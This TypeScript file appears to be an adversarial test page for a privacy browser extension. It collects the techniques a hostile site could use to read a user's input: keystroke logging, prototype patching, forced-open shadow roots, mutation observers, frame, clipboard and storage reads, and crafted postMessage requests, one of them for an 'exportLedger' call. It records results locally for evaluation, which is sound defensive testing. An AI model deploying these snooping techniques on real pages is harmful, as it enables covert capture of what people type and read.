// What a page can try in order to read what a person typed or read. Each attack notes what it got under its name.
import { isOwnReading, reading, record, shownText } from './evidence.ts';
import { focusThefts } from './focus-theft.ts';

const win: Window & typeof globalThis = window;

/** Keys, joined, so that words show. */
function keys(): void {
  let typed = '';
  for (const name of ['keydown', 'keypress', 'keyup'])
    win.addEventListener(
      name,
      (event) => {
        if (!(event instanceof KeyboardEvent) || !event.isTrusted) return;
        if (name === 'keydown' && event.key.length === 1) typed += event.key;
        record('key events', typed, `${name} ${event.key}`);
      },
      true,
    );
}

function inputs(): void {
  for (const name of ['beforeinput', 'input', 'textInput', 'change', 'compositionupdate', 'compositionend'])
    win.addEventListener(
      name,
      (event) => {
        const { target } = event;
        if (event instanceof InputEvent || event instanceof CompositionEvent) record('input events', event.data ?? '');
        if (target instanceof HTMLTextAreaElement) reading(() => record('input events', target.value));
        else if (target instanceof HTMLElement) reading(() => record('input events', shownText(target)));
      },
      true,
    );
}

function* everyElement(root: Document | ShadowRoot): Generator<Element> {
  for (const element of root.querySelectorAll('*')) {
    yield element;
    if (element.shadowRoot) yield* everyElement(element.shadowRoot);
  }
}

/** The page's own scripts hold no guess, but its styles and scripts are not what is read. */
function texts(): void {
  record('text of the page', shownText(document.body), document.documentElement.textContent ?? '');
  for (const element of everyElement(document)) {
    if (element instanceof HTMLTextAreaElement || element instanceof HTMLInputElement)
      record('text of the page', element.value);
    for (const { name, value } of element.attributes) record('attributes', `${name}=${value}`);
  }
}

function find(): void {
  const finder = (win as unknown as { find?: (...args: unknown[]) => boolean }).find;
  for (const guess of win.guesses) {
    win.getSelection()?.removeAllRanges();
    // Backwards off, wrap on, in frames too.
    if (!finder?.call(win, guess, false, false, true, false, true, false)) continue;
    record('window.find', `found ${guess}`);
    const node = win.getSelection()?.anchorNode;
    record('window.find', node?.getRootNode().textContent ?? '');
    win.getSelection()?.removeAllRanges();
  }
}

function selection(): void {
  document.addEventListener('selectionchange', () =>
    reading(() => record('selection', String(document.getSelection() ?? ''))),
  );
}

/** Every function and setter through which a text could pass. */
function patches(): void {
  const note = (attack: string, args: readonly unknown[]) => {
    if (isOwnReading()) return;
    for (const arg of args) if (typeof arg === 'string' || arg instanceof Node) record(attack, arg);
  };
  const wrap = (owner: object, name: string) => {
    const own = Object.getOwnPropertyDescriptor(owner, name);
    if (!own?.configurable) return;
    const { value, get, set } = own;
    const attack = 'patched prototypes';
    if (typeof value === 'function')
      Object.defineProperty(owner, name, {
        ...own,
        value(this: unknown, ...args: unknown[]) {
          note(attack, args);
          const result: unknown = Reflect.apply(value, this, args);
          note(attack, [result]);
          return result;
        },
      });
    else if (get && set)
      Object.defineProperty(owner, name, {
        ...own,
        get(this: unknown) {
          const result: unknown = get.call(this);
          note(attack, [result]);
          return result;
        },
        set(this: unknown, to: unknown) {
          note(attack, [to]);
          set.call(this, to);
        },
      });
  };
  const targets: readonly (readonly [object, readonly string[]])[] = [
    [
      Element.prototype,
      ['attachShadow', 'setAttribute', 'append', 'replaceChildren', 'insertAdjacentHTML', 'innerHTML'],
    ],
    [Node.prototype, ['appendChild', 'insertBefore', 'replaceChild', 'textContent', 'nodeValue']],
    [CharacterData.prototype, ['data', 'appendData', 'insertData', 'replaceData']],
    [Document.prototype, ['createTextNode', 'execCommand', 'createElement']],
    [HTMLTextAreaElement.prototype, ['value', 'setRangeText']],
    [HTMLElement.prototype, ['innerText', 'focus', 'dispatchEvent']],
    [EventTarget.prototype, ['addEventListener', 'dispatchEvent']],
    [Range.prototype, ['toString', 'insertNode', 'setStart']],
    [Selection.prototype, ['toString', 'addRange']],
    [MessagePort.prototype, ['postMessage']],
    [BroadcastChannel.prototype, ['postMessage']],
    [Storage.prototype, ['setItem']],
    [Clipboard.prototype, ['writeText', 'write']],
    [DataTransfer.prototype, ['setData', 'getData']],
    [String.prototype, ['replace', 'slice', 'split', 'normalize']],
    [RegExp.prototype, ['exec']],
    [win, ['postMessage', 'fetch', 'structuredClone']],
  ];
  for (const [owner, names] of targets) for (const name of names) wrap(owner, name);
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    setInterval(() => reading(() => record('patched prototypes', root.textContent ?? '')), 100);
    return root;
  };
  if ('highlights' in CSS) wrap(Object.getPrototypeOf(CSS.highlights), 'set');
}

function mutations(): void {
  new MutationObserver((records) => {
    for (const { target, addedNodes, oldValue, attributeName } of records) {
      record(
        'mutation observer',
        target.textContent ?? '',
        oldValue ?? '',
        ...[...addedNodes].map((node) => node.textContent ?? ''),
      );
      if (attributeName && target instanceof Element)
        record('mutation observer', target.getAttribute(attributeName) ?? '');
    }
  }).observe(document, {
    subtree: true,
    childList: true,
    attributes: true,
    characterData: true,
    attributeOldValue: true,
    characterDataOldValue: true,
  });
}

function readWindow(attack: string, other: Window | null | undefined): void {
  try {
    record(attack, shownText(other?.document.documentElement), other?.name ?? '', other?.location.href ?? '');
  } catch {
    // Another origin.
  }
}

function frames(): void {
  for (let at = 0; at < win.length; at += 1) readWindow('frames', win[at]);
  for (const element of everyElement(document)) {
    const root =
      (element as Element & { openOrClosedShadowRoot?: ShadowRoot }).openOrClosedShadowRoot ?? element.shadowRoot;
    if (root) record('frames', root.textContent ?? '');
    if (!(element instanceof HTMLIFrameElement)) continue;
    readWindow('frames', element.contentWindow);
    record('frames', shownText(element.contentDocument?.documentElement), element.src);
  }
  for (const host of document.querySelectorAll('[data-coatcheck-host]')) {
    record('frames', host.outerHTML);
    const { width, height } = host.getBoundingClientRect();
    record('frame sizes', `${host.getAttribute('data-coatcheck-host')} ${Math.round(width)}x${Math.round(height)}`);
  }
}

/** Which address our frame has is in here as well. */
function performanceEntries(): void {
  const note = (entries: PerformanceEntryList) => {
    // Not their times: among so many digits, four that are somebody's turn up by chance.
    for (const entry of entries)
      record('performance entries', ...Object.values(entry.toJSON()).filter((value) => typeof value === 'string'));
  };
  note(performance.getEntries());
  for (const type of PerformanceObserver.supportedEntryTypes) {
    try {
      new PerformanceObserver((list) => note(list.getEntries())).observe({ type, buffered: true });
    } catch {
      // Not observable alone.
    }
  }
}

function clipboard(): void {
  for (const name of ['copy', 'cut', 'paste', 'dragstart', 'dragover', 'drop'])
    win.addEventListener(
      name,
      (event) => {
        const data = event instanceof ClipboardEvent ? event.clipboardData : (event as DragEvent).dataTransfer;
        reading(() =>
          record('clipboard events', data?.getData('text/plain') ?? '', String(document.getSelection() ?? '')),
        );
      },
      true,
    );
}

function highlightRegistry(): void {
  if (!('highlights' in CSS)) return;
  for (const highlight of CSS.highlights.values())
    for (const range of highlight) {
      record('highlight registry', String(range));
      const { startContainer, startOffset, endOffset } = range;
      const text = startContainer instanceof Text ? startContainer.data : '';
      record('highlight registry', text.slice(startOffset, endOffset));
    }
}

function messages(): void {
  win.addEventListener('message', (event) => {
    record('messages', event.data);
    for (const port of event.ports) port.onmessage = (more) => record('messages', more.data);
  });
}

/** Storage that the page shares with whoever writes into it. */
function storage(): void {
  for (const store of [localStorage, sessionStorage])
    for (let at = 0; at < store.length; at += 1) record('storage', store.getItem(store.key(at) ?? '') ?? '');
  record('storage', document.cookie, win.name, document.title);
}

const ASKS = [
  { coatcheckFrame: '0'.repeat(64) },
  { say: 'welcome', role: 'composer', site: 'hostile', conversation: 'demo' },
  JSON.stringify({ say: 'replies', replies: [] }),
  { target: 'coatcheck-page', ask: 'state' },
  {
    target: 'coatcheck-background',
    body: JSON.stringify({ kind: 'call', id: 1, client: 'x', method: 'exportLedger', request: {} }),
  },
];

/** Our page in a frame of the attacker's: asked for everything, and read as far as the browser lets it. */
function framing(): void {
  const known = performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.includes('private.html'));
  for (const address of new Set([...win.addresses, ...known])) {
    if (document.querySelector(`iframe[data-attack="${CSS.escape(address)}"]`)) continue;
    const frame = document.createElement('iframe');
    frame.dataset.attack = address;
    frame.style.cssText = 'width: 300px; height: 200px';
    frame.addEventListener('load', () => record('framing our page', `loaded ${address.replace(/^.*\//, '')}`));
    frame.src = address;
    document.body.append(frame);
  }
  for (const frame of document.querySelectorAll<HTMLIFrameElement>('iframe[data-attack]')) {
    for (const ask of ASKS) {
      const channel = new MessageChannel();
      channel.port1.onmessage = (event) => record('framing our page', event.data);
      frame.contentWindow?.postMessage(ask, '*', [channel.port2]);
    }
    readWindow('framing our page', frame.contentWindow);
  }
  for (let at = 0; at < win.length; at += 1) for (const ask of ASKS) win[at]?.postMessage(ask, '*');
}

/** Straight to the extension, where a browser lets a page do that. */
function extensionMessages(): void {
  const runtime = (win as unknown as { chrome?: { runtime?: { sendMessage?: (...args: unknown[]) => void } } }).chrome
    ?.runtime;
  for (const address of win.addresses)
    for (const ask of ASKS)
      runtime?.sendMessage?.(new URL(address).host, ask, (answer: unknown) => record('messages', answer));
}

keys();
inputs();
selection();
patches();
mutations();
performanceEntries();
clipboard();
messages();
Object.assign(win.steal, focusThefts(), {
  // Its own frames make a page one that the private composer does not stay in.
  framing: () => setInterval(() => reading(framing), 700),
});
setInterval(() => {
  for (const attack of [texts, frames, highlightRegistry, storage]) reading(attack);
}, 120);
setInterval(() => {
  for (const attack of [find, extensionMessages]) reading(attack);
}, 700);
